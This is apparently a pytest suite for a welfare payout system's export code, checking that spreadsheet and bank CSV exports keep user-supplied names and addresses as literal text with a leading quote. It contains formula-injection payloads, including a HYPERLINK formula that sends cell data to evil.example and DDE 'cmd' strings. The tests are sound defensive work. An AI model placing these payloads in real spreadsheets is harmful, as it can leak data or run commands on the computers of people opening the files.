"""Formula injection: every spreadsheet and CSV we write carries user text as text, never as a formula.

Each export is produced with the four classic payloads in names, addresses, proxy names, group names...
The .xlsx is opened with openpyxl: the cell is a string cell (data_type "s") holding the literal text, and
no worksheet of the file contains a formula element at all. The bank CSV applies the OWASP rule (a leading
single quote), on SQLite (Python writer) and on PostgreSQL (COPY ... TO). Amounts are numeric cells.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from flask_babel import force_locale, gettext
from openpyxl import load_workbook
from sqlalchemy import update

from tests import factories
from tests.factories import approve_all, unit, user_id
from tests.payout.conftest import make_person as payout_person  # noqa: F401  (fixture)
from tests.payout.conftest import verified_account  # noqa: F401  (fixture)

EVIL = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]


def _no_formula(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name


def _cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def assert_text(data: bytes, values=EVIL, *, contains: bool = False) -> list:
    """Every value of ``values`` is in some cell as literal text (a string cell); no cell is a formula."""
    _no_formula(data)
    cells = _cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for value in values:
        found = [c for c in cells if isinstance(c.value, str) and (value in c.value if contains else c.value == value)]
        assert found, value
        assert all(c.data_type == "s" for c in found), value
    return cells


# --- the writer itself ---------------------------------------------------------------------------


@pytest.mark.parametrize("write_only", [True, False])
def test_writer_keeps_text_and_money(write_only):
    from app.services.spreadsheets import Money, append_row, new_workbook

    wb = new_workbook(write_only=write_only)
    ws = wb.create_sheet("S")
    append_row(ws, EVIL + ["#N/A", "a\x01b", Money(4308000), 7, None, "x" * 40000])
    out = io.BytesIO()
    wb.save(out)
    assert_text(out.getvalue(), EVIL + ["#N/A", "ab"])
    row = [c for c in load_workbook(io.BytesIO(out.getvalue()))["S"][1]]
    assert row[6].value == 4308000 and row[6].data_type == "n" and row[6].number_format == "#,##0"
    assert row[7].value == 7 and row[7].data_type == "n"
    assert len(row[9].value) == 32767  # Excel's cell limit, not an error
    assert row[0].quotePrefix  # Excel keeps it text when the cell is edited


def _one_cell_at_a_time(ws, values, *, font=None, fill=None, text_cols=()):
    """Each value in a cell of its own, styled attribute by attribute: the file ``append_row`` must write."""
    from openpyxl.cell import Cell

    from app.services.spreadsheets import TEXT_FORMAT, Styled, set_value

    cells = []
    for i, v in enumerate(values):
        style = v if isinstance(v, Styled) else None
        c = Cell(ws, row=1, column=1)
        set_value(c, style.value if style else v)
        for attr, default in (("font", font), ("fill", fill)):
            chosen = getattr(style, attr) if style is not None and getattr(style, attr) is not None else default
            if chosen is not None:
                setattr(c, attr, chosen)
        if style is not None and style.number_format:
            c.number_format = style.number_format
        elif i in text_cols:
            c.number_format = TEXT_FORMAT
        cells.append(c)
    ws.append(cells)


@pytest.mark.parametrize("write_only", [True, False])
def test_writer_writes_the_file_of_one_cell_at_a_time(write_only):
    """Plain values go to openpyxl as they are and styles are built once per workbook: the same sheet and
    style table, byte for byte, as a cell per value styled one attribute at a time."""
    from openpyxl.styles import Font, PatternFill

    from app.services.spreadsheets import Money, Styled, append_row, new_workbook

    bold, fill = Font(bold=True), PatternFill("solid", fgColor="FFFF00")
    values = EVIL + ["#N/A", "#REF!", "a\x01b", "tab\tin", "xuống\ndòng", "\xa0nbsp", "", None, 0, 7, -3, 2.5, True]
    values += [Money(4308000), Money(-1), dt.date(2025, 2, 1), dt.datetime(2025, 2, 1, 8, 30), "x" * 40000]
    values += [Styled("đậm", font=bold), Styled(Money(5), number_format="0.00"), Styled(None, fill=fill)]
    values += [Styled(dt.date(2025, 3, 1), number_format="mm/yyyy"), Styled("=1+1", font=bold, fill=fill)]
    rows = [
        (values, {}),
        (values, {"text_cols": (0, 4, 7, 8, 11, 14, 15, 16)}),
        (values, {"font": bold}),
        (values, {"font": Font(bold=True), "fill": fill, "text_cols": (2, 16)}),
        (["0012345", "Nguyễn Văn An", Money(1500000)], {"text_cols": (0,)}),
    ]

    def sheets(write) -> dict:
        wb = new_workbook(write_only=write_only)
        ws = wb.create_sheet("S") if write_only else wb.active
        for row, options in rows * 2:
            write(ws, row, **options)
        out = io.BytesIO()
        wb.save(out)
        with zipfile.ZipFile(io.BytesIO(out.getvalue())) as z:
            return {n: z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/") or n == "xl/styles.xml"}

    assert sheets(append_row) == sheets(_one_cell_at_a_time)


def test_csv_writer_escapes():
    from app.services.spreadsheets import CsvWriter, csv_text

    buf = io.StringIO()
    CsvWriter(buf).writerow(EVIL + ["\tx", "\rx", "a,b", 'say "hi"', 5, "Nguyễn"])
    row = next(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert row[:6] == ["'" + v for v in EVIL + ["\tx", "\rx"]]
    assert row[6:] == ["a,b", 'say "hi"', "5", "Nguyễn"]
    assert csv_text(-5) == -5  # numbers stay numbers


# --- the exports ----------------------------------------------------------------------------------


@pytest.fixture()
def evil_period(app, db_session, payout_person, verified_account):  # noqa: F811
    """District 001: four people paid to an account of Vietcombank, whose names, holders and proxies are
    the payloads (set on the payout lines, the snapshot the exports read), plus one held line. Locked."""
    from app.models import PayoutLine
    from app.services import payout

    ids = []
    for i, _value in enumerate(EVIL):
        pid = payout_person("00004", f"Người Thử {i}", case_type=1, enrol={"BTXH": 4308000 + i})
        verified_account(pid, f"00112233{i:02d}")
        ids.append(pid)
    payout_person("00004", "Người Giữ", case_type=1, hold_reason="deceased")
    period = payout.create_period(
        db_session, name="Tháng 03/2025", period_date=dt.date(2025, 3, 1), unit=unit(db_session, "001"), user_id=None
    )
    db_session.commit()
    payout.sync_payout_list(db_session, period.id, unit(db_session, "001"))
    for i, value in enumerate(EVIL):
        db_session.execute(
            update(PayoutLine)
            .where(PayoutLine.period_id == period.id, PayoutLine.full_name == f"Người Thử {i}")
            .values(full_name=value, holder_ascii=value, proxy_name=value)
        )
    db_session.execute(
        update(PayoutLine)
        .where(PayoutLine.period_id == period.id, PayoutLine.full_name == "Người Giữ")
        .values(full_name=EVIL[0])
    )
    db_session.commit()
    approve_all(db_session, period.id)
    payout.lock_period(db_session, period.id, user_id(db_session, "phong.001"), unit(db_session, "001"))
    return period.id


def test_payout_list_is_text_and_amounts_are_numbers(db_session, evil_period):
    from app.services import payout

    out = io.BytesIO()
    payout.write_payout_list(db_session, evil_period, unit(db_session, "001"), out, lambda s: s)
    assert_text(out.getvalue())
    ws = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    rows = list(ws.iter_rows(min_row=6))
    body = [r for r in rows if isinstance(r[0].value, int)]
    assert len(body) == 4
    for r in body:
        assert r[7].data_type == "n" and isinstance(r[7].value, int) and r[7].number_format == "#,##0"
        assert r[12].data_type == "s" and r[12].value.startswith(tuple(EVIL))  # the proxy
    assert sorted(r[7].value for r in body) == [4308000, 4308001, 4308002, 4308003]
    total = next(r for r in rows if r[3].value == "Total")
    assert total[7].value == 4 * 4308000 + 6 and total[7].data_type == "n"
    held = load_workbook(io.BytesIO(out.getvalue())).worksheets[1]
    line = list(held.iter_rows(min_row=3))[0]
    assert line[3].value == EVIL[0] and line[3].data_type == "s" and line[7].data_type == "n"


def test_bank_csv_is_escaped(db_session, evil_period):
    """The same OWASP rule in Python (SQLite) and in COPY's SQL (PostgreSQL): this test runs on both."""
    from app.services import payout

    out = io.BytesIO()
    result = payout.write_bank_file(db_session, evil_period, unit(db_session, "001"), "970436", out)
    rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8"))))
    assert result["lines"] == 4 and len(rows) == 5
    holders = sorted(r[2] for r in rows[1:])
    assert holders == sorted("'" + v for v in EVIL)
    assert all(not r[2].startswith(("=", "+", "-", "@")) for r in rows[1:])
    assert sorted(int(r[3]) for r in rows[1:]) == [4308000, 4308001, 4308002, 4308003]


def test_error_report_of_an_import_is_text(app, db_session):
    from app.models import ImportBatch
    from app.services.reference import find_unit
    from app.services.registry import importing, reports

    lines = ["Họ và tên,Số CCCD,Ngày sinh,Địa chỉ,Ghi chú"]
    for v in EVIL:
        q = '"' + v.replace('"', '""') + '"'
        lines.append(f"{q},123,01/01/1950,{q},{q}")
    content = ("\n".join(lines) + "\n").encode("utf-8")
    batch = importing.create_batch(
        db_session,
        filename="=cmd|' /C calc'!A0.csv",
        content=content,
        unit=find_unit(db_session, "00004", "2024"),
        category="BTXH",
        user_id=None,
        auto_apply=False,
    )
    db_session.commit()
    importing.parse_batch(db_session, batch.id)
    assert db_session.get(ImportBatch, batch.id).status == "parsed"
    for mask in (False, True):
        out = io.BytesIO()
        assert reports.write_error_report(db_session, batch.id, out, lambda s: s, mask=mask) >= 4
        assert_text(out.getvalue())


def test_error_report_of_an_account_import_is_text(db_session):
    from app.services.payout import account_import
    from app.services.reference import find_unit
    from app.services.registry import reports

    lines = ["Họ và tên,Số tài khoản,Ngân hàng,Chủ tài khoản"]
    for v in EVIL:
        q = '"' + v.replace('"', '""') + '"'
        lines.append(f"{q},0011223344,Vietcombank,{q}")
    batch = account_import.create_batch(
        db_session,
        filename="tk.csv",
        content=("\n".join(lines) + "\n").encode(),
        unit=find_unit(db_session, "00004", "2024"),
        user_id=None,
    )
    db_session.commit()
    account_import.parse_batch(db_session, batch.id)
    out = io.BytesIO()
    assert reports.write_error_report(db_session, batch.id, out, lambda s: s) >= 4
    assert_text(out.getvalue())


def test_case_lists_and_visit_sheet_are_text(app):
    from app.extensions import db
    from app.services.cases import classify_cases, write_case_lists
    from app.services.visits import questionnaire as qn
    from app.services.visits import workgroups

    with app.app_context():
        ids = [
            factories.make_person(
                db.session,
                "00004",
                v,
                enrol={"BTXH": 540000},
                cccd=f"00104500030{i}",
                birth_year=1945,
                sex="M",
                address=v,
                match_status="matched",
            )
            for i, v in enumerate(EVIL)
        ]
        commune = unit(db.session, "00004")
        group = workgroups.create_group(db.session, commune_id=commune.id, name=EVIL[1], user_id=None)
        workgroups.add_member(db.session, group, user_id=None, name=EVIL[2])
        workgroups.sync_visit_list(db.session, commune)
        workgroups.assign(db.session, commune.id, ids, group_id=group.id, member_id=None, user_id=None)
        db.session.commit()
        with app.test_request_context(), force_locale("vi"):
            out = io.BytesIO()
            classify_cases(db.session, commune)
            write_case_lists(db.session, commune, out, gettext, unit_name=EVIL[3])
            assert_text(out.getvalue())
            out = io.BytesIO()
            workgroups.write_visit_sheet(
                db.session, group, out, gettext, definition=qn.active_questionnaire(db.session).parsed
            )
            assert_text(out.getvalue(), contains=True)
            assert_text(out.getvalue(), [EVIL[0], EVIL[3]])


def test_dashboard_xlsx_is_text(app):
    from app.extensions import db
    from app.services import dashboard as dash
    from app.services.reference import find_unit

    with app.app_context():
        data = dash.dashboard(db.session, find_unit(db.session, "001", "2024"))
        data["breakdown"] = [dict(data["total"], name=v) for v in EVIL]
        out = io.BytesIO()
        with app.test_request_context(), force_locale("vi"):
            dash.write_xlsx(data, out, gettext)
    assert_text(out.getvalue())
